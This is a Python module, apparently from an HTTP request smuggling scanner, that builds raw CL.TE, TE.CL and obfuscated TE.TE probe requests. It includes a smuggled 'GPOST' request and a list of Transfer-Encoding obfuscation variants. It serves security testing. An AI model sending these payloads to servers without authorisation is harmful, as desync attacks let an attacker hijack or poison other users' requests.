"""
Raw payload builders for the smuggling probes.

Every builder is a pure function of the target host: ports and TLS only
change how the bytes are delivered, never the bytes themselves.
"""

from typing import Optional, Sequence

from httpsmuggler.models import SmugglingType

CONTENT_TYPE = 'application/x-www-form-urlencoded'

# Second request hidden inside the chunked body. "GPOST" makes a back-end
# that picks it up as a new request answer with an unmistakable error.
SMUGGLED_REQUEST = (
    "GPOST / HTTP/1.1\r\n"
    f"Content-Type: {CONTENT_TYPE}\r\n"
    "Content-Length: 15\r\n"
    "\r\n"
    "x=1"
)

# Order matters: the TE.TE test stops at the first variant that matches.
TE_OBFUSCATIONS = (
    "Transfer-Encoding: chunked\r\nTransfer-encoding: x",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    "Transfer-Encoding:\tchunked",
    "X: X\r\nTransfer-Encoding: chunked",
)


def build_request(host: str, header_lines: Sequence[str], body: str = "") -> bytes:
    """Build a raw POST request.

    Header lines are written exactly as given (preserving case, order,
    duplicates and odd whitespace), after ``Host`` and ``Content-Type``.

    Args:
        host: Value of the Host header
        header_lines: Extra header lines, without trailing CRLF
        body: Request body

    Returns:
        Raw HTTP/1.1 request as bytes
    """
    request_parts = [
        "POST / HTTP/1.1\r\n",
        f"Host: {host}\r\n",
        f"Content-Type: {CONTENT_TYPE}\r\n",
    ]
    for line in header_lines:
        request_parts.append(f"{line}\r\n")
    request_parts.append("\r\n")
    request_parts.append(body)
    return "".join(request_parts).encode("utf-8", errors="surrogateescape")


def _smuggled_chunked_body() -> str:
    return f"{len(SMUGGLED_REQUEST):x}\r\n{SMUGGLED_REQUEST}\r\n0\r\n\r\n"


def build_cl_te_payload(host: str) -> bytes:
    """CL.TE probe.

    The front-end forwards the 6 bytes ``0\\r\\n\\r\\nG``; a back-end that
    honours Transfer-Encoding ends the body at the terminator and then stalls
    on the dangling ``G``.
    """
    return build_request(
        host,
        ["Content-Length: 6", "Transfer-Encoding: chunked"],
        "0\r\n\r\nG",
    )


def build_te_cl_payload(host: str) -> bytes:
    """TE.CL probe.

    The front-end forwards the whole chunked body; a back-end that honours
    Content-Length only consumes 4 bytes and keeps the smuggled request
    pending.
    """
    return build_request(
        host,
        ["Content-Length: 4", "Transfer-Encoding: chunked"],
        _smuggled_chunked_body(),
    )


def build_te_te_payload(host: str, obfuscation: str) -> bytes:
    """TE.CL-shaped probe whose Transfer-Encoding header is obfuscated."""
    return build_request(
        host,
        ["Content-Length: 4", obfuscation],
        _smuggled_chunked_body(),
    )


def build_normal_payload(host: str) -> bytes:
    """Unambiguous empty POST, the timing control for a target."""
    return build_request(host, ["Content-Length: 0"])


def build_payload(smuggling_type: SmugglingType, host: str, variant: Optional[int] = None) -> bytes:
    """Build the probe for ``smuggling_type``.

    Args:
        smuggling_type: Which desync class to probe for
        host: Value of the Host header
        variant: Index into ``TE_OBFUSCATIONS``; required for TE.TE only

    Raises:
        ValueError: If ``variant`` is missing, out of range or not applicable
    """
    if smuggling_type is SmugglingType.TE_TE:
        if variant is None or not 0 <= variant < len(TE_OBFUSCATIONS):
            raise ValueError(f"TE.TE needs a variant between 0 and {len(TE_OBFUSCATIONS) - 1}")
        return build_te_te_payload(host, TE_OBFUSCATIONS[variant])

    if variant is not None:
        raise ValueError(f"{smuggling_type} payloads have no variants")
    if smuggling_type is SmugglingType.CL_TE:
        return build_cl_te_payload(host)
    return build_te_cl_payload(host)
